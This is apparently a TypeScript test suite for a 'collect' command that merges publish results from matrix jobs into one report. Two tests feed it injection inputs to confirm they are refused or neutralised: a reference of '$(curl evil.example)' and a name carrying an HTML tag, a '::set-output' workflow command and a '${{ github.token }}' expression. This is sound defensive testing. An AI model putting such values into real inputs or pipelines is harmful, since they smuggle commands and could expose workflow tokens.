/** `collect` through the bundle: what the jobs of a matrix have published becomes one result. */

import assert from 'node:assert/strict';
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { bundleExists, runAsAction, runInShell } from '../support/bundle.ts';
import { root } from '../support/programs.ts';

const bundle = join(root, 'collect', 'index.js');

suite('Results of several jobs are collected', { skip: !bundleExists() }, () => {
  let folder: string;
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'owp-collect-'));
    for (const name of ['linux', 'windows']) {
      await mkdir(join(folder, name));
      await cp(join(root, '__tests__/fixtures/wasm/component.wasm'), join(folder, name, `${name}.wasm`));
      await writeFile(join(folder, name, 'VERSION'), '1.0.0\n');
      const result = await runInShell(
        [
          '--path',
          name,
          '--to',
          'oci:layout',
          '--tags',
          '1.0.0',
          '--result-file',
          `results/result-${name}/result.json`,
        ],
        { cwd: folder },
      );
      assert.equal(result.code, 0, result.stderr);
    }
  });
  after(() => rm(folder, { recursive: true }));

  test('a folder of results gives one matrix, one report and one summary', async () => {
    const { code, outputs, summary, stdout } = await runAsAction(
      { results: 'results' },
      { bundle, cwd: folder },
    );
    assert.equal(code, 0, stdout);
    const names = JSON.parse(outputs.matrix ?? '').include.map(({ name }: { name: string }) => name);
    assert.deepEqual(names, ['linux', 'windows']);
    assert.equal(outputs.changed, 'true');
    assert.equal(outputs.subjects?.split('\n').length, 2);
    assert.match(summary, /linux/);
    assert.match(summary, /windows/);
  });

  test('files are collected by their names, and one that is named twice counts once', async () => {
    const file = 'results/result-linux/result.json';
    const { code, artifacts, stderr } = await runInShell(['collect', file, file], { cwd: folder });
    assert.equal(code, 0, stderr);
    assert.deepEqual(
      artifacts.map(({ name }) => name),
      ['linux'],
    );
  });

  test('one tag with two digests is a conflict', async () => {
    const text = await readFile(join(folder, 'results/result-linux/result.json'), 'utf8');
    const digest = JSON.parse(text).artifacts[0].digest;
    const other = `sha256:${'0'.repeat(64)}`;
    await writeFile(join(folder, 'other.json'), text.replaceAll(digest, other));
    const { code, stderr } = await runInShell(['collect', 'results', 'other.json'], { cwd: folder });
    assert.equal(code, 1);
    assert.match(
      stderr,
      /was published by two jobs, as sha256:[0-9a-f]{64} and as sha256:0{64}.*\[conflict\]/,
    );
  });

  test('a job that has failed fails the whole, with its reason', async () => {
    const report = JSON.parse(await readFile(join(folder, 'results/result-linux/result.json'), 'utf8'));
    report.artifacts[0].outcome = 'failed';
    report.artifacts[0].error = { code: 'denied', message: 'no right to push', hint: 'Log in.' };
    await writeFile(join(folder, 'failed.json'), JSON.stringify(report));
    const { code, stderr } = await runInShell(['collect', 'failed.json'], { cwd: folder });
    assert.equal(code, 1);
    assert.match(stderr, /no right to push/);
  });

  const broken: readonly (readonly [string, string, RegExp])[] = [
    ['is not JSON', '{', /is no report of a publish: it is not JSON/],
    ['is another JSON', '[]', /is no report of a publish/],
    ['has a digest that is none', '{"artifacts":[{"digest":"x"}]}', /is no report of a publish/],
    ['is empty', '', /is no report of a publish/],
  ];
  for (const [what, text, expected] of broken)
    test(`a file that ${what} is refused`, async () => {
      await writeFile(join(folder, 'broken.json'), text);
      const { code, stderr } = await runInShell(['collect', 'broken.json'], { cwd: folder });
      assert.equal(code, 2, stderr);
      assert.match(stderr, expected);
    });

  for (const [what, change] of [
    ['in another repository', { reference: `ghcr.io/eve/shop@sha256:${'0'.repeat(64)}` }],
    ['with a command', { reference: '$(curl evil.example)' }],
    ['of another digest', { digest: `sha256:${'0'.repeat(64)}` }],
  ] as const)
    test(`a reference ${what} is refused, since deployments take what it names`, async () => {
      const report = JSON.parse(await readFile(join(folder, 'results/result-linux/result.json'), 'utf8'));
      Object.assign(report.artifacts[0], change);
      await writeFile(join(folder, 'edited.json'), JSON.stringify(report));
      const { code, outputs, stdout } = await runAsAction(
        { results: 'edited.json' },
        { bundle, cwd: folder },
      );
      assert.equal(code, 2, stdout);
      assert.match(stdout, /artifacts\[0\]\.reference must be oci:layout@sha256:/);
      assert.deepEqual(outputs, {});
    });

  test('no result is wrong usage', async () => {
    await mkdir(join(folder, 'empty'), { recursive: true });
    for (const args of [['collect'], ['collect', 'empty']]) {
      const { code, stderr } = await runInShell(args, { cwd: folder });
      assert.equal(code, 2, stderr);
      assert.match(stderr, /--results|results/);
    }
  });

  test('names with Markdown, commands and line breaks reach neither outputs nor summary as such', async () => {
    const report = JSON.parse(await readFile(join(folder, 'results/result-linux/result.json'), 'utf8'));
    report.artifacts[0].name = `<img src=x>\n::set-output name=a::b\n\${{ github.token }}`;
    report.notes = ['note\n::warning::x'];
    await writeFile(join(folder, 'hostile.json'), JSON.stringify(report));
    const { stdout, summary, outputs } = await runAsAction(
      { results: 'hostile.json' },
      { bundle, cwd: folder },
    );
    assert.doesNotMatch(stdout, /^::(?:set-output|warning::x)/m);
    assert.doesNotMatch(summary, /<img src/);
    assert.doesNotMatch(outputs.matrix ?? '', /set-output/);
  });
});
